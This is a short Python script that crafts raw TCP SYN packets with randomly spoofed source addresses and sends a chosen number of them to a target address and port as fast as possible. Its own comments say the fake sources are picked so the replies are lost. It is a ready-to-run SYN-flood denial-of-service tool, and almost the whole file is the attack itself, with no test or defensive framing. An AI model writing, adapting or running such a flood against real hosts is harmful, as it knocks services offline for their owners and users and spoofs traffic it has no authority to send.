# SPDX-License-Identifier: Apache-2.0
"""ADDRESS PORT COUNT: sends that many SYNs from silent addresses, as fast as possible."""

import random
import socket
import struct
import sys


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _syn(source: bytes, target: bytes, port: int) -> bytes:
    own_port = random.randrange(1024, 65536)
    head = struct.pack("!HHIIBBHHH", own_port, port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    tcp = head[:16] + struct.pack("!H", _checksum(pseudo + head)) + head[18:]
    # The kernel fills in length, identification and checksum.
    return struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + source + target + tcp


def main() -> None:
    address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    target = socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(count):
            # Unused addresses of the client's own network: the answers are lost.
            source = socket.inet_aton(f"10.99.{random.randrange(1, 255)}.{random.randrange(1, 255)}")
            raw.sendto(_syn(source, target, port), (address, 0))


main()
